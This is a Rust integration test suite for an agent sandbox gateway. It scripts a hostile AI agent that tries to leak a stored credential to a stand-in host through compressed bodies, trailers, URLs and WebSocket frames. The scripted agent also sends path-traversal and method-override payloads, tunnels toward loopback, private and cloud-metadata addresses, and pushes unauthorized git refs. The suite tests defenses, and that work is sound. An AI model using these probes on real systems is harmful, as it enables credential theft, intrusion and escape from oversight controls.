//! The wall against a hostile agent and hostile upstreams: what an agent that behaves like an
//! attacker tried from inside a real sandbox, through the real gateway, against TLS upstreams
//! of the tests' own. Each test is one finding of issue 13 and failed before its fix.
//!
//! Needs root, a running Docker engine and the base image (scripts/test provides all three).

use airlock_tests::hostile::{attacker_setup, Hostile};
use airlock_tests::{line, random, stderr, stdout, Engine, Install, Server};
use base64::Engine as _;

/// Every form in which `value` could be recovered from text: as it is (any case), hex, and
/// base64/base64url at each of the three alignments it can have inside longer base64.
fn recoverable_forms(value: &str) -> Vec<String> {
    let mut out = vec![value.to_ascii_lowercase(), hex::encode(value)];
    for r in 0..3 {
        let mut padded = vec![b'x'; r];
        padded.extend_from_slice(value.as_bytes());
        for engine in [
            base64::engine::general_purpose::STANDARD_NO_PAD,
            base64::engine::general_purpose::URL_SAFE_NO_PAD,
        ] {
            let e = engine.encode(&padded);
            let from = (8 * r).div_ceil(6);
            let to = (8 * (r + value.len())) / 6;
            out.push(e[from..to].to_ascii_lowercase());
        }
    }
    out
}

/// The agent's `tag` line holds `want`.
fn assert_line_has(text: &str, tag: &str, want: &str) {
    let l = line(text, tag);
    assert!(l.contains(want), "{l}");
}

fn assert_no_form_of(text: &str, value: &str, what: &str) {
    let lower = text.to_ascii_lowercase();
    for f in recoverable_forms(value) {
        assert!(
            !lower.contains(&f),
            "{what} holds the value in the form {f:?}:\n{text}"
        );
    }
}

/// An installation with one admin, the given credentials and a profile from `toml`.
async fn install(
    engine: Engine,
    env: &[(&str, &str)],
    creds: &[(&str, &str)],
    toml: &str,
) -> Install {
    let mut install = Install::new(engine).await;
    Server::configure(&mut install);
    for (k, v) in env {
        install.env(k, v);
    }
    install.ok(&["migrate"]);
    install.add_admin();
    for (name, value) in creds {
        let out = install.run_with_stdin(
            &["credential", "set", name, "--kind", "generic"],
            value.as_bytes(),
        );
        assert!(out.status.success(), "{}", stderr(&out));
    }
    let name = toml
        .lines()
        .find_map(|l| l.strip_prefix("name = \""))
        .and_then(|l| l.strip_suffix('"'))
        .expect("the profile has a name")
        .to_string();
    let path = install.path().join(format!("{name}.toml"));
    std::fs::write(&path, toml).unwrap();
    install.ok(&["profile", "apply", "-f", path.to_str().unwrap()]);
    install
}

/// Runs a session of `profile` and returns what the agent printed (the CLI runs on a worker
/// thread: the test's upstreams serve on this runtime).
async fn session(install: &std::sync::Arc<Install>, profile: &str) -> String {
    let i = install.clone();
    let profile = profile.to_string();
    let out = tokio::task::spawn_blocking(move || {
        i.run(&[
            "run",
            "--repo",
            "acme/web",
            "--profile",
            &profile,
            "probe the wall",
        ])
    })
    .await
    .unwrap();
    let text = stdout(&out);
    assert!(out.status.success(), "{text}\n{}", stderr(&out));
    text
}

/// The probe an attacking agent runs against the hostile upstream.
const HOSTILE_PROBE: &str = r#"
import gzip, json, os, subprocess, sys, urllib.parse
sys.path.insert(0, os.environ["HOME"])
import attacker as a

H = "hostile.test"
LEAK = os.environ["LEAKED"]

import time
T0 = time.time()

def show(tag, data):
    if isinstance(data, bytes):
        data = data.decode(errors="replace")
    print(f"{tag}: {data!r}", flush=True)
    print(f"timing {tag}: {time.time() - T0:.1f}", flush=True)

def auth(ans):
    try:
        return json.loads(a.dechunk(ans))["headers"]["authorization"]
    except Exception as e:
        return f"unparsed ({e}): {a.dechunk(ans)[:200]!r}"

def attempt(tag, f):
    try:
        f()
    except Exception as e:
        show(tag, f"failed: {e}")

# Compressed answers, whatever the request asked for, and stacked codings.
for c in ["gzip", "deflate", "br", "zstd", "gzip,br", "zstd,gzip,deflate"]:
    ans = a.raw(H, "/enc/" + c)
    show("enc-" + c, auth(ans))
    show("raw-enc-" + c, ans)
ans = a.raw("h1.test", "/te")
show("te", auth(ans))
show("raw-te", ans)
r = subprocess.run(["curl", "-sS", "--compressed", "https://hostile.test/enc/gzip"], capture_output=True, text=True)
show("curl-compressed", r.stdout + r.stderr)
# Ordinary clients: Node's fetch (it decodes what it is told is compressed) and Python's
# urllib (it decodes nothing), both through the proxy settings of the sandbox.
r = subprocess.run(["node", "-e", "fetch('https://hostile.test/enc/gzip,br').then(r => r.json()).then(j => console.log(j.headers.authorization), e => console.log('failed', e.message))"], capture_output=True, text=True)
show("node-fetch", r.stdout.strip() or r.stderr.strip())
import urllib.request
attempt("python-urllib", lambda: show("python-urllib", json.loads(urllib.request.urlopen("https://hostile.test/enc/zstd").read())["headers"]["authorization"]))
# One byte per chunk.
ans = a.raw(H, "/split")
show("split", auth(ans))
show("raw-split", ans)
# Header values, header names, the reason phrase.
show("raw-headers", a.raw(H, "/headers"))
# Trailers, HTTP/1.1 (chunked) and HTTP/2.
show("raw-trailers", a.raw(H, "/trailers"))
r = subprocess.run(["curl", "-sv", "--http2", "https://hostile.test/trailers"], capture_output=True, text=True)
show("h2-trailers", r.stdout + r.stderr)
# The common escapes and encodings.
show("forms", a.dechunk(a.raw(H, "/forms")))
# Stashed through one route, asked for on another that injects nothing.
show("stash", a.dechunk(a.raw("plain.test", "/stash")))
# WebSocket: 101 headers, a message one byte per frame, binary, echoes.
w = a.WebSocket(H, "/ws")
show("ws-head", w.head)
msgs = w.messages(2)
w.send("hello")
msgs += w.messages(1)
w.send_split("split-hello")
msgs += w.messages(1)
for op, data, rsv in msgs:
    show(f"ws-msg op={op} rsv={rsv}", data)
# Frames compressed although nothing was agreed.
w = a.WebSocket(H, "/ws-rsv")
show("ws-rsv-head", w.head)
for op, data, rsv in w.messages(3):
    show(f"ws-rsv-msg op={op} rsv={rsv}", data)
# A decompression bomb: 256 MiB of zeros in 256 KiB of gzip.
show("bomb-bytes", str(a.count(H, "/bomb")))

# The request guard: a stored value leaving compressed, in trailers, in a URL, in frames.
ans = a.raw(H, "/guard", method="POST", headers=["Content-Encoding: gzip"],
            body=gzip.compress(("note=" + LEAK).encode()))
show("guard-gzip", ans.split(b"\r\n")[0])
attempt("guard-trailer", lambda: show("guard-trailer", a.raw(H, "/guard", method="POST", chunks=[b"hello"], trailers=["X-Note: " + LEAK]).split(b"\r\n")[0]))
show("guard-url", a.raw(H, "/guard?q=" + urllib.parse.quote(LEAK, safe="")).split(b"\r\n")[0])
w = a.WebSocket(H, "/ws")
w.messages(2)
w.send("note " + LEAK)
show("guard-ws", w.messages(1))
w = a.WebSocket(H, "/ws")
w.messages(2)
w.send_split("note " + LEAK)
show("guard-ws-split", w.messages(1))

# The Responses API over WebSocket on a metered route: each answer costs 42 tokens of the
# requester's daily 50.
w = a.WebSocket("model.test", "/v1/responses")
show("model-ws-head", w.head)
for i in range(3):
    w.send(json.dumps({"type": "response.create", "model": "m", "input": []}))
    show(f"model-ws-{i}", w.messages(2))
w = a.WebSocket("model.test", "/v1/responses")
show("model-ws-again", w.head + w.t.recv(4096))
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_upstream_never_gets_the_injected_value_into_the_sandbox() {
    let key = random("sk-live-");
    let leaked = random("leaked-");
    let hostile = Hostile::start().await;
    let up = hostile.url();
    let toml = format!(
        r#"name = "hostile"
[agent]
kind = "command"
command = '''
{setup}
python3 - <<'PROBE_EOF'
{HOSTILE_PROBE}
PROBE_EOF
'''
[env]
LEAKED = "{leaked}"
[[egress]]
host = "hostile.test"
credential = "hostile-key"
inject = {{ kind = "bearer" }}
upstream = "{up}"
[[egress]]
host = "h1.test"
credential = "hostile-key"
inject = {{ kind = "bearer" }}
upstream = "{up_h1}"
[[egress]]
host = "plain.test"
upstream = "{up}"
[[egress]]
host = "model.test"
path_prefix = "/v1/"
credential = "hostile-key"
inject = {{ kind = "bearer" }}
upstream = "{up}"
"#,
        setup = attacker_setup(),
        up_h1 = hostile.url_h1(),
    );
    let install = install(
        Engine::Sqlite,
        &[
            (
                "AIRLOCK_GATEWAY_EXTRA_CA_FILE",
                hostile.ca_file.to_str().unwrap(),
            ),
            ("AIRLOCK_GATEWAY_HUMAN_DAILY_TOKEN_BUDGET", "50"),
            // HTTP/2 to the sandbox too, for its trailers (off by default, decision 0014).
            ("AIRLOCK_GATEWAY_CLIENT_HTTP2", "true"),
        ],
        &[("hostile-key", &key), ("leaked", &leaked)],
        &toml,
    )
    .await;
    let server = Server::start(&install);
    let install = std::sync::Arc::new(install);
    let text = session(&install, "hostile").await;
    eprintln!(
        "{}",
        text.lines()
            .filter(|l| l.starts_with("timing"))
            .collect::<Vec<_>>()
            .join("\n")
    );

    // The upstream got the real key: the gateway injected it.
    assert!(
        hostile.seen().iter().any(|a| a == &format!("Bearer {key}")),
        "the upstream never saw the key"
    );
    // And nothing of it came back, in any form, anywhere in what the agent saw.
    assert_no_form_of(&text, &key, "the agent's output");

    // Legitimate use still works: every coding arrives decoded, with the value redacted.
    for c in [
        "gzip",
        "deflate",
        "br",
        "zstd",
        "gzip,br",
        "zstd,gzip,deflate",
    ] {
        assert_eq!(
            line(&text, &format!("enc-{c}: ")),
            format!("enc-{c}: 'Bearer [REDACTED]'")
        );
    }
    assert_eq!(line(&text, "te: "), "te: 'Bearer [REDACTED]'");
    assert_eq!(
        line(&text, "node-fetch: "),
        "node-fetch: 'Bearer [REDACTED]'"
    );
    assert_eq!(
        line(&text, "python-urllib: "),
        "python-urllib: 'Bearer [REDACTED]'"
    );
    assert!(
        line(&text, "curl-compressed: ").contains(r#""authorization":"Bearer [REDACTED]""#),
        "{}",
        line(&text, "curl-compressed: ")
    );
    assert_eq!(line(&text, "split: "), "split: 'Bearer [REDACTED]'");
    let headers = line(&text, "raw-headers: ");
    assert!(
        headers.contains("x-echo-auth: Bearer [REDACTED]")
            && headers.contains("www-authenticate: Bearer [REDACTED]"),
        "{headers}"
    );
    assert!(
        headers.starts_with(r"raw-headers: 'HTTP/1.1 200 OK\r\n"),
        "{headers}"
    );
    let trailers = line(&text, "raw-trailers: ");
    assert!(
        trailers.contains("x-echo-auth: Bearer [REDACTED]")
            && trailers.contains("trailer: x-echo-auth"),
        "{trailers}"
    );
    assert_line_has(&text, "h2-trailers: ", "the value is in the trailers");
    let forms = line(&text, "forms: ").trim_start_matches("forms: '");
    let parts: Vec<&str> = forms.split("\\n").collect();
    for tag in [
        "raw=",
        "upper=",
        "percent=",
        "json=",
        "jsonescaped=",
        "html=",
        "hex=",
        "base64=",
        "base64in=",
        "base64in2=",
        "base64url=",
        "truncated=",
    ] {
        let part = parts
            .iter()
            .find(|p| p.starts_with(tag))
            .unwrap_or_else(|| panic!("{tag} missing: {forms}"));
        assert!(
            part.contains("[REDACTED]"),
            "{tag} was not redacted: {forms}"
        );
    }
    assert_line_has(&text, "stash: ", "[REDACTED]");

    // WebSocket: the 101 headers and every message scrubbed, the split one included;
    // compression was never offered upstream, and frames compressed anyway end the relay.
    assert_line_has(&text, "ws-head: ", "x-echo-auth: Bearer [REDACTED]");
    assert!(
        !line(&text, "ws-head: ").contains("permessage-deflate"),
        "{}",
        line(&text, "ws-head: ")
    );
    let ws: Vec<&str> = text.lines().filter(|l| l.starts_with("ws-msg ")).collect();
    assert_eq!(
        ws,
        [
            "ws-msg op=1 rsv=0: 'split:Bearer [REDACTED]'",
            "ws-msg op=2 rsv=0: 'binary:Bearer [REDACTED]'",
            "ws-msg op=1 rsv=0: 'echo:hello:Bearer [REDACTED]'",
            "ws-msg op=1 rsv=0: 'echo:split-hello:Bearer [REDACTED]'",
        ]
    );
    assert!(
        hostile.ws_offers().iter().all(Option::is_none),
        "an extension offer reached the upstream: {:?}",
        hostile.ws_offers()
    );
    let rsv: Vec<&str> = text
        .lines()
        .filter(|l| l.starts_with("ws-rsv-msg"))
        .collect();
    assert!(
        rsv.iter().all(|l| l.contains("op=8")),
        "a compressed frame got through: {rsv:?}"
    );

    // The bomb arrived whole (decoded as it streamed) and the server stayed small.
    let bytes: u64 = line(&text, "bomb-bytes: ")
        .trim_start_matches("bomb-bytes: ")
        .trim_matches('\'')
        .parse()
        .unwrap();
    assert!(bytes >= 256 << 20, "{bytes}");
    let hwm = peak_rss_mb(server.child.id());
    assert!(hwm < 300, "the server peaked at {hwm} MB");

    // The guard: a stored value never leaves, compressed, in trailers, in a URL, in frames.
    assert_line_has(&text, "guard-gzip: ", "403");
    assert_line_has(&text, "guard-url: ", "403");
    // A request trailer carrying the value ends the request before the trailer goes.
    assert_line_has(&text, "guard-trailer: ", "403");
    for tag in ["guard-ws: ", "guard-ws-split: "] {
        let l = line(&text, tag);
        assert!(
            l.contains("(8, ") && l.contains("stored credential `leaked`"),
            "{l}"
        );
    }
    // No upstream request ever carried it.
    assert!(
        !hostile.seen().iter().any(|a| a.contains(&leaked)),
        "the leaked value reached the upstream"
    );

    // Metered WebSocket: two answers, then the daily budget (50) is spent: the third request
    // gets the error in the API's shape and the connection closes; a new upgrade is refused
    // before any key is injected.
    assert!(line(&text, "model-ws-0: ").contains("response.completed"));
    assert!(line(&text, "model-ws-1: ").contains("response.completed"));
    let third = line(&text, "model-ws-2: ");
    assert!(
        third.contains("budget_exceeded") && third.contains("(8, "),
        "{third}"
    );
    let again = line(&text, "model-ws-again: ");
    assert!(again.contains("429"), "{again}");
    let model_upgrades = hostile.ws_offers().len();
    assert_eq!(model_upgrades, 5, "/ws x3, /ws-rsv, one /v1/responses");
    eprintln!(
        "{}",
        text.lines()
            .filter(|l| l.starts_with("timing"))
            .collect::<Vec<_>>()
            .join("\n")
    );

    // Upgrades are audited when accepted (route and credential) and when closed (bytes and
    // tokens).
    let audit = install.ok(&["audit", "export"]);
    assert_no_form_of(&audit, &key, "the audit log");
    let rows: Vec<serde_json::Value> = audit
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let opened = rows
        .iter()
        .filter(|r| r["action"] == "egress.upgrade")
        .collect::<Vec<_>>();
    assert!(opened
        .iter()
        .all(|r| r["detail"]["credential"] == "hostile-key" && r["detail"]["route"].is_number()));
    let closed: Vec<&serde_json::Value> = rows
        .iter()
        .filter(|r| r["action"] == "egress.upgrade.closed")
        .collect();
    assert_eq!(opened.len(), closed.len(), "every accepted upgrade closed");
    assert!(closed
        .iter()
        .any(|r| r["detail"]["input_tokens"] == 80 && r["detail"]["decision"] == "budget"));
    assert!(closed
        .iter()
        .all(|r| r["detail"]["bytes_down"].as_u64().unwrap_or(0) > 0));
}

/// The highest resident set a process has had, in MB.
fn peak_rss_mb(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        .map(|kb| kb / 1024)
        .unwrap_or(0)
}

/// What an agent pushes: the session's own branch is the one ref it may create or update.
const PUSHES: &str = r#"
cd "$HOME" && git clone -q https://git.example.test/repo.git r && cd r
git -c user.name=Agent -c user.email=agent@example.com commit -q --allow-empty -m attack
try() { tag=$1; shift; echo "at $(date +%s) $tag"; if out=$("$@" 2>&1); then echo "$tag: pushed"; else echo "$tag: refused: $(echo "$out" | grep -E 'remote: Airlock|remote rejected' | tr -s ' ' | tr '\n' ' ')"; echo "$tag output: $(echo "$out" | tr '\n' ' ')"; fi; }
try main git push origin HEAD:refs/heads/main
try tag git push origin HEAD:refs/tags/x
try other git push origin HEAD:refs/heads/other
try force-other git push -f origin HEAD:refs/heads/other
try delete git push origin :refs/heads/other
try notes git push origin HEAD:refs/notes/x
try mixed git push origin "HEAD:refs/heads/$AIRLOCK_BRANCH" HEAD:refs/heads/main
head -c 3000000 /dev/urandom > big.bin && git add big.bin
git -c user.name=Agent -c user.email=agent@example.com commit -qm "three megabytes"
try own git push origin "HEAD:refs/heads/$AIRLOCK_BRANCH"
try own-force git push -f origin "HEAD~1:refs/heads/$AIRLOCK_BRANCH"
# A command list made by hand, gzipped, as no git client would send it.
python3 - <<'PY'
import gzip, subprocess
old = subprocess.check_output(["git", "rev-parse", "origin/main"]).decode().strip()
new = subprocess.check_output(["git", "rev-parse", "HEAD"]).decode().strip()
line = f"{old} {new} refs/heads/main\0report-status\n".encode()
body = b"%04x" % (len(line) + 4) + line + b"0000"
open("cmds.gz", "wb").write(gzip.compress(body))
PY
echo "by-hand: $(curl -s -H 'Content-Encoding: gzip' -H 'Content-Type: application/x-git-receive-pack-request' --data-binary @cmds.gz https://git.example.test/repo.git/git-receive-pack | tr -d '\0' | tr '\n' ' ')"
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_session_pushes_its_own_branch_and_no_other_ref() {
    let git_token = random("ghs_");
    let upstream = airlock_tests::upstream::Upstream::start("unused-key", &git_token).await;
    let bare = upstream.create_repo("repo");
    let git = |args: &[&str]| airlock_tests::git::in_bare(&bare, args).unwrap();
    git(&["branch", "other", "main"]);
    let main_before = git(&["rev-parse", "main"]);
    let toml = format!(
        r#"name = "pusher"
[agent]
kind = "command"
command = '''{PUSHES}'''
[[egress]]
host = "git.example.test"
credential = "git-token"
inject = {{ kind = "basic", username = "x-access-token" }}
upstream = "{up}"
"#,
        up = upstream.url()
    );
    let install = install(
        Engine::Sqlite,
        &[(
            "AIRLOCK_GATEWAY_EXTRA_CA_FILE",
            upstream.ca_file.to_str().unwrap(),
        )],
        &[("git-token", &git_token)],
        &toml,
    )
    .await;
    let _server = Server::start(&install);
    let install = std::sync::Arc::new(install);
    let text = session(&install, "pusher").await;
    for tag in [
        "main",
        "tag",
        "other",
        "force-other",
        "delete",
        "notes",
        "mixed",
    ] {
        let l = line(&text, &format!("{tag}: "));
        assert!(
            l.contains("refused: remote: Airlock:") && l.contains("[remote rejected]"),
            "{l}"
        );
    }
    assert!(line(&text, "tag: ").contains("tags are not pushed"));
    assert!(line(&text, "delete: ").contains("only the session's own branch"));
    assert_eq!(line(&text, "own: "), "own: pushed", "{text}");
    assert_eq!(line(&text, "own-force: "), "own-force: pushed", "{text}");
    let by_hand = line(&text, "by-hand: ");
    assert!(
        by_hand.contains("ng refs/heads/main refused by Airlock"),
        "{by_hand}"
    );
    // The upstream: main, other and the tags as they were; the session branch pushed (the
    // forced push moved it back one commit).
    assert_eq!(git(&["rev-parse", "main"]), main_before);
    assert_eq!(git(&["rev-parse", "other"]), main_before);
    assert_eq!(git(&["tag", "--list"]), "");
    assert_eq!(git(&["notes", "list"]), "");
    let branches = git(&["branch", "--format=%(refname:short)"]);
    let own = branches
        .lines()
        .find(|b| b.starts_with("airlock/"))
        .unwrap_or_else(|| panic!("the session branch is missing: {branches}"));
    assert_eq!(git(&["log", "--format=%s", own]), "attack\nseed\n");
    // Each refusal is audited with the refs it named.
    let audit = install.ok(&["audit", "export"]);
    let refused = audit
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|r| r["action"] == "egress.refused" && r["detail"]["decision"] == "git_ref")
        .count();
    assert_eq!(refused, 8, "one audit row per refused push");
    assert!(!audit.contains(&git_token));
}

/// Paths and methods restated in the ways servers accept.
const RESTATED: &str = r#"
for p in '/echo/..;/admin' '/echo/%2e%2e;x=1/admin' '/echo/%2e%2e/admin' '/echo//admin' \
         '/echo/a%2f..%2f..%2fadmin' '/echo/x%5c..%5cadmin' '/echo/ok'; do
  echo "path $p: $(curl -s --path-as-is -o /dev/null -w '%{http_code}' "https://paths.test$p")"
done
echo "why: $(curl -s --path-as-is 'https://paths.test/echo/..;/admin')"
echo "decoded: $(curl -s https://paths.test/echo/%61bc)"
echo "override-header: $(curl -s -o /dev/null -w '%{http_code}' -H 'X-HTTP-Method-Override: DELETE' https://paths.test/echo/x)"
echo "override-query: $(curl -s -o /dev/null -w '%{http_code}' 'https://paths.test/echo/x?_method=DELETE')"
echo "override-form: $(curl -s -o /dev/null -w '%{http_code}' -d '_method=DELETE' https://paths.test/echo/x)"
echo "override-same: $(curl -s -o /dev/null -w '%{http_code}' -H 'X-HTTP-Method-Override: GET' https://paths.test/echo/x)"
echo "form-ok: $(curl -s -o /dev/null -w '%{http_code}' -d 'a=1' https://paths.test/echo/x)"
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn paths_and_methods_restated_in_any_form_stay_inside_the_route() {
    let hostile = Hostile::start().await;
    let toml = format!(
        r#"name = "paths"
[agent]
kind = "command"
command = '''{RESTATED}'''
[[egress]]
host = "paths.test"
path_prefix = "/echo/"
methods = ["GET", "POST"]
credential = "key"
inject = {{ kind = "bearer" }}
upstream = "{up}"
"#,
        up = hostile.url()
    );
    let install = install(
        Engine::Sqlite,
        &[(
            "AIRLOCK_GATEWAY_EXTRA_CA_FILE",
            hostile.ca_file.to_str().unwrap(),
        )],
        &[("key", &random("sk-"))],
        &toml,
    )
    .await;
    let _server = Server::start(&install);
    let install = std::sync::Arc::new(install);
    let text = session(&install, "paths").await;
    for p in [
        "/echo/..;/admin",
        "/echo/%2e%2e;x=1/admin",
        "/echo/%2e%2e/admin",
        "/echo//admin",
        "/echo/a%2f..%2f..%2fadmin",
        "/echo/x%5c..%5cadmin",
    ] {
        assert_eq!(
            line(&text, &format!("path {p}: ")),
            format!("path {p}: 400")
        );
    }
    assert_eq!(line(&text, "path /echo/ok: "), "path /echo/ok: 200");
    assert!(
        line(&text, "why: ").contains("it has a `.` or `..` segment"),
        "{text}"
    );
    assert_eq!(line(&text, "decoded: "), "decoded: upstream saw /echo/abc");
    for tag in ["override-header", "override-query", "override-form"] {
        assert_eq!(line(&text, &format!("{tag}: ")), format!("{tag}: 403"));
    }
    assert_eq!(line(&text, "override-same: "), "override-same: 200");
    assert_eq!(line(&text, "form-ok: "), "form-ok: 200");
    // Nothing but the allowed paths reached the upstream.
    let paths = hostile.paths();
    assert!(
        paths
            .iter()
            .all(|p| p.starts_with("/echo/") && !p.contains("admin")),
        "{paths:?}"
    );
}

/// An address of TEST-NET-3 (public as far as the gateway can tell) on a dummy interface of
/// this machine, with a TLS server on port 443: a "public" host the tests can reach.
struct PublicHost {
    ip: String,
    ca_pem: String,
    _dir: tempfile::TempDir,
}

impl PublicHost {
    async fn start() -> PublicHost {
        let n = rand::random::<u8>() % 200 + 20;
        let ip = format!("203.0.113.{n}");
        let sh = |c: &str| {
            let out = std::process::Command::new("sh")
                .arg("-c")
                .arg(c)
                .output()
                .unwrap();
            assert!(
                out.status.success(),
                "{c}: {}",
                String::from_utf8_lossy(&out.stderr)
            );
        };
        // On loopback: no kernel module needed, and still an address the gateway checks as
        // public.
        sh(&format!("ip addr add {ip}/32 dev lo"));
        let dir = tempfile::tempdir().unwrap();
        let ca = airlock_tests::tls::TestCa::new("Public host test CA", dir.path());
        let app =
            axum::Router::new().route("/public", axum::routing::get(|| async { "public ok\n" }));
        airlock_tests::tls::serve_https_on(
            format!("{ip}:443").parse().unwrap(),
            app,
            ca.server_config(&[&ip]),
        )
        .await;
        PublicHost {
            ip,
            ca_pem: ca.pem.clone(),
            _dir: dir,
        }
    }
}

impl Drop for PublicHost {
    fn drop(&mut self) {
        let _ = std::process::Command::new("ip")
            .args(["addr", "del", &format!("{}/32", self.ip), "dev", "lo"])
            .output();
    }
}

const TUNNELS: &str = r#"
printf '%s\n' "$HOST_CA" > "$HOME/host-ca.pem"
t() { echo "$1: $(curl -sS -m 10 -o /dev/null -w '%{http_connect} %{http_code}' --noproxy '' -x "$https_proxy" --cacert "$HOME/host-ca.pem" "$2" 2>&1 | tail -1)"; }
t public "https://$HOST_IP/public"
t port "https://$HOST_IP:8443/public"
t loopback "https://localhost/public"
t private "https://10.1.2.3/public"
t metadata "https://169.254.169.254/latest/meta-data/"
python3 - <<'PY'
import os, sys
sys.path.insert(0, os.environ["HOME"])
import attacker as a
for host in ["localhost", "10.1.2.3"]:
    try:
        a.tunnel(host)
        print(f"raw {host}: tunnelled")
    except Exception as e:
        print(f"raw {host}: {e}")
PY
echo "setup fetched: $(cat "$HOME/fetched.txt" 2>/dev/null)"
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn passthrough_is_for_setup_steps_port_443_and_public_addresses_only() {
    let host = PublicHost::start().await;
    let profile = |name: &str, in_sessions: bool| {
        format!(
            r#"name = "{name}"
passthrough = ["{ip}", "localhost", "10.1.2.3", "169.254.169.254"]
passthrough_in_sessions = {in_sessions}
[sandbox]
setup = ['printf "%s\n" "$HOST_CA" > /tmp/ca.pem && curl -sS --cacert /tmp/ca.pem https://{ip}/public > "$HOME/fetched.txt"']
[agent]
kind = "command"
command = '''{setup}
{TUNNELS}'''
[env]
HOST_IP = "{ip}"
HOST_CA = '''{ca}'''
"#,
            ip = host.ip,
            ca = host.ca_pem.trim(),
            setup = attacker_setup(),
        )
    };
    let install = install(Engine::Sqlite, &[], &[], &profile("setup-only", false)).await;
    let path = install.path().join("tunnels.toml");
    std::fs::write(&path, profile("tunnels", true)).unwrap();
    install.ok(&["profile", "apply", "-f", path.to_str().unwrap()]);
    let _server = Server::start(&install);
    let install = std::sync::Arc::new(install);

    // By default a passthrough host is tunnelled while the setup steps run (the snapshot
    // build fetched through it), and not in sessions.
    let text = session(&install, "setup-only").await;
    assert_eq!(line(&text, "setup fetched: "), "setup fetched: public ok");
    assert_eq!(line(&text, "public: "), "public: 403 000");

    // With `passthrough_in_sessions`, only port 443 of a public address.
    let text = session(&install, "tunnels").await;
    assert_eq!(line(&text, "public: "), "public: 200 200");
    for tag in ["port", "loopback", "private", "metadata"] {
        assert_eq!(line(&text, &format!("{tag}: ")), format!("{tag}: 403 000"));
    }
    assert!(
        line(&text, "raw localhost: ").contains("a loopback address"),
        "{text}"
    );
    assert!(
        line(&text, "raw 10.1.2.3: ").contains("a private address"),
        "{text}"
    );
    let audit = install.ok(&["audit", "export"]);
    let tunnels: Vec<serde_json::Value> = audit
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|r| r["action"] == "egress.tunnel")
        .collect();
    assert!(
        tunnels
            .iter()
            .any(|t| t["detail"]["address"] == host.ip.as_str()),
        "{tunnels:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn committed_images_carry_no_start_up_environment_or_token() {
    let toml = r#"name = "kept"
[sandbox]
setup = ["echo prepared > $HOME/prepared.txt"]
[agent]
kind = "command"
command = "cat $HOME/prepared.txt"
"#;
    let install = install(Engine::Sqlite, &[], &[], toml).await;
    let _server = Server::start(&install);
    let install = std::sync::Arc::new(install);
    let text = session(&install, "kept").await;
    assert!(text.contains("prepared"), "{text}");
    // Every image this deployment committed: the profile's snapshot and the session's.
    let db = install.raw_db().await;
    let deployment: String =
        sqlx::query_scalar("SELECT value FROM meta WHERE key = 'deployment_id'")
            .fetch_one(&db)
            .await
            .unwrap();
    let images = String::from_utf8(
        std::process::Command::new("docker")
            .args([
                "images",
                "--filter",
                &format!("label=org.airlock.deployment={deployment}"),
                "--format",
                "{{.Repository}}:{{.Tag}}",
            ])
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    let ours: Vec<&str> = images.lines().collect();
    assert!(
        ours.len() >= 2,
        "a profile and a session snapshot: {images}"
    );
    for image in ours {
        let out = std::process::Command::new("docker")
            .args(["image", "inspect", "--format", "{{json .Config}}", image])
            .output()
            .unwrap();
        let config = String::from_utf8_lossy(&out.stdout);
        assert!(out.status.success(), "{image}: {config}");
        for bad in ["AIRLOCK_", "alk_", "sandboxd.json"] {
            assert!(!config.contains(bad), "{image} holds {bad}: {config}");
        }
        // Nor do its files hold a token.
        let scan = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!(
                "c=$(docker create {image} true) && docker export $c | grep -a -c 'alk_boot_\\|alk_sbx_\\|alk_egr_' ; docker rm $c >/dev/null"
            ))
            .output()
            .unwrap();
        assert_eq!(String::from_utf8_lossy(&scan.stdout).trim(), "0", "{image}");
    }
}
